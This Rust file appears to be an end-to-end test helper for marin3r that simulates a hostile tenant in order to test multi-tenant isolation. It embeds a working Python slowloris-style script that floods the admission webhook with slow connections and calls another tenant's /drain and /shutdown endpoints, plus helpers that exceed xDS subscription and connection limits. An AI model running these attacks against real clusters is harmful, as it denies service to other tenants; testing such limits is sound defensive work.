//! What tenant A's namespace admin attacks with: pods on the pod network that hold the
//! webhook's connections with slow bodies and call another tenant's shutdown manager, and
//! A's client certificate used to subscribe to more than the discovery pod may hold and to
//! open more connections than the namespace may have (from the host, which reaches the pod
//! network as A's pods do).

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use envoy_types::pb::envoy::service::discovery::v3::DeltaDiscoveryRequest;
use http_body_util::Empty;
use hyper::body::Bytes;
use hyper_util::rt::{TokioExecutor, TokioIo};
use k8s_openapi::api::core::v1::Pod;
use kube::Api;
use kube::api::LogParams;
use marin3r_testkit::xds::client::{ClientTls, DeltaStream, connect};
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName};
use serde_json::json;

use super::restricted_container;

/// Tenant A's attacking pods, and the slow webhook connections each keeps trying to hold:
/// more than the webhook's 64 per client address, and together more than its 256 slots.
pub const ATTACKERS: usize = 5;
pub const SLOW_CONNECTIONS: usize = 72;
/// The attack is on while the pods hold more webhook connections than one address may. They
/// hold between 110 and 250 of the 256 slots at a time here: the webhook closes the longest
/// stalled ones for those waiting, and each pod waits a second before opening another.
pub const HELD_AT_LEAST: u64 = 64;
/// `--xds-max-connections-per-namespace` of the discovery pod (its default: the
/// DiscoveryService has no field for it), and how many more A opens.
pub const XDS_CAP: usize = 4096;
pub const XDS_EXCESS: usize = 16;
/// How many of A's connections are being opened at once.
const OPENING_AT_ONCE: usize = 64;
const CDS: &str = "type.googleapis.com/envoy.config.cluster.v3.Cluster";

/// Tenant A's pod: `slots` threads, each holding a webhook connection with a request whose
/// body never ends (a byte a second), and opening another a second after the webhook closes
/// it (408 or eviction) or refuses it, so the slots stay full without the attackers spending
/// every core on handshakes; twice a second it prints what it did. Given a victim, it also
/// asks that pod's shutdown manager to drain and to stop its Envoy, and prints the answers.
const ATTACKER_PY: &str = r#"
import socket, ssl, sys, threading, time, urllib.request, urllib.error
webhook, slots, victim = sys.argv[1], int(sys.argv[2]), sys.argv[3]
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
head = b"POST /pod-v1-mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"
lock = threading.Lock()
n = {"opened": 0, "ended": 0, "refused": 0}
def count(what):
    with lock:
        n[what] += 1
def slot():
    while True:
        raw = None
        try:
            raw = socket.create_connection((webhook, 8443), timeout=10)
            s = ctx.wrap_socket(raw)
            s.sendall(head)
        except Exception:
            if raw is not None:
                raw.close()
            count("refused")
            time.sleep(1)
            continue
        count("opened")
        # Until the webhook answers or closes (TLS session tickets are read, not answers).
        s.settimeout(1)
        try:
            while True:
                try:
                    s.recv(4096)
                    break
                except socket.timeout:
                    s.sendall(b" ")
        except Exception:
            pass
        s.close()
        count("ended")
        time.sleep(1)
for _ in range(slots):
    threading.Thread(target=slot, daemon=True).start()
if victim:
    for path in ("/drain", "/shutdown"):
        try:
            code = urllib.request.urlopen("http://%s:8090%s" % (victim, path), timeout=5).status
        except urllib.error.HTTPError as e:
            code = e.code
        except Exception as e:
            code = repr(e)
        print("victim", path, code, flush=True)
while True:
    with lock:
        print("attack opened=%d ended=%d refused=%d" % (n["opened"], n["ended"], n["refused"]), flush=True)
    time.sleep(0.5)
"#;

/// Attacking pod `i` of tenant A (namespace `a`) against the webhook at `webhook_ip`; the
/// first one also calls the shutdown manager of the pod at `victim_ip`.
pub fn attacker_pod(a: &str, i: usize, webhook_ip: &str, victim_ip: &str) -> Pod {
    let victim_ip = if i == 0 { victim_ip } else { "" };
    serde_json::from_value(json!({
        "metadata": {"name": format!("attacker-{i}"), "namespace": a},
        "spec": {
            "securityContext": {"seccompProfile": {"type": "RuntimeDefault"}},
            "terminationGracePeriodSeconds": 1,
            "containers": [restricted_container("attack", json!([
                "python3", "-c", ATTACKER_PY, webhook_ip,
                SLOW_CONNECTIONS.to_string(), victim_ip,
            ]))],
        },
    }))
    .unwrap()
}

/// What attacking pod `i` printed so far (its container's log, from the API server).
pub async fn attacker_log(pods: &Api<Pod>, i: usize) -> String {
    let params = LogParams {
        container: Some("attack".into()),
        ..Default::default()
    };
    pods.logs(&format!("attacker-{i}"), &params)
        .await
        .unwrap_or_default()
}

/// What the attacking pods did so far, summed: webhook connections opened, ended by the
/// webhook, and refused.
#[derive(Debug, Clone, Copy, Default)]
pub struct Attack {
    pub opened: u64,
    pub ended: u64,
    pub refused: u64,
}

impl Attack {
    pub fn held(&self) -> u64 {
        self.opened.saturating_sub(self.ended)
    }
}

/// The attack so far, from the pods' logs; `None` until every pod has said.
pub async fn attack(pods: &Api<Pod>) -> Option<Attack> {
    let mut sum = Attack::default();
    for i in 0..ATTACKERS {
        let log = attacker_log(pods, i).await;
        let (opened, ended, refused) = log.lines().rev().find_map(|line| {
            let mut fields = line.strip_prefix("attack ")?.split(' ').map(|f| {
                let (_, v) = f.split_once('=')?;
                v.parse::<u64>().ok()
            });
            Some((fields.next()??, fields.next()??, fields.next()??))
        })?;
        sum.opened += opened;
        sum.ended += ended;
        sum.refused += refused;
    }
    Some(sum)
}

/// A delta stream under tenant A's identity subscribing `count` CDS names of `len` bytes, a
/// few per request (each within the request size limit). Kept open by the caller.
pub async fn subscribe(
    xds: SocketAddr,
    tls: &ClientTls,
    from: usize,
    count: usize,
    len: usize,
) -> Option<DeltaStream> {
    let channel = connect(xds, tls).await.ok()?;
    let mut stream = DeltaStream::open(channel, "demo-proxy", None).await.ok()?;
    let names: Vec<String> = (from..from + count)
        .map(|i| format!("{i:09}-{}", "x".repeat(len - 10)))
        .collect();
    for chunk in names.chunks(200) {
        let req = DeltaDiscoveryRequest {
            type_url: CDS.into(),
            resource_names_subscribe: chunk.to_vec(),
            ..Default::default()
        };
        stream.send(req).await.ok()?;
    }
    Some(stream)
}

/// rustls's client configuration for `tls`, offering HTTP/2 as gRPC clients do.
pub fn rustls_config(tls: &ClientTls) -> Arc<rustls::ClientConfig> {
    let mut roots = rustls::RootCertStore::empty();
    for cert in CertificateDer::pem_slice_iter(tls.ca_pem.as_bytes()) {
        roots.add(cert.unwrap()).unwrap();
    }
    let (cert, key) = tls.identity.clone().unwrap();
    let chain = CertificateDer::pem_slice_iter(cert.as_bytes())
        .collect::<Result<Vec<_>, _>>()
        .unwrap();
    let key = PrivateKeyDer::from_pem_slice(key.as_bytes()).unwrap();
    let provider = rustls::crypto::ring::default_provider();
    let mut config = rustls::ClientConfig::builder_with_provider(provider.into())
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_client_auth_cert(chain, key)
        .unwrap();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Arc::new(config)
}

/// An HTTP/2 connection to the xDS server, kept open without a stream while it lives.
pub type Idle = hyper::client::conn::http2::SendRequest<Empty<Bytes>>;

/// One more xDS connection, idle: `Some` when the server serves it (it answers a request for
/// a method it does not have), `None` when it closes it after the handshake instead.
pub async fn idle_connection(
    xds: SocketAddr,
    server_name: &str,
    config: &Arc<rustls::ClientConfig>,
) -> Option<Idle> {
    let name = ServerName::try_from(server_name.to_owned()).unwrap();
    let attempt = async {
        let tcp = tokio::net::TcpStream::connect(xds).await.ok()?;
        let tls = tokio_rustls::TlsConnector::from(Arc::clone(config))
            .connect(name, tcp)
            .await
            .ok()?;
        let (mut send, conn) =
            hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(tls))
                .await
                .ok()?;
        tokio::spawn(conn);
        let request = hyper::Request::post(format!("https://{xds}/marin3r.e2e.NoSuch/Method"))
            .header("content-type", "application/grpc")
            .body(Empty::new())
            .unwrap();
        send.send_request(request).await.ok()?;
        Some(send)
    };
    tokio::time::timeout(Duration::from_secs(20), attempt)
        .await
        .expect("an xDS connection neither served nor closed in 20 s")
}

/// `count` more xDS connections under `config`, [`OPENING_AT_ONCE`] being opened at a time:
/// those the server serves.
pub async fn idle_connections(
    xds: SocketAddr,
    server_name: &str,
    config: &Arc<rustls::ClientConfig>,
    count: usize,
) -> Vec<Idle> {
    use futures::StreamExt;
    futures::stream::iter(0..count)
        .map(|_| idle_connection(xds, server_name, config))
        .buffer_unordered(OPENING_AT_ONCE)
        .filter_map(|c| async move { c })
        .collect()
        .await
}
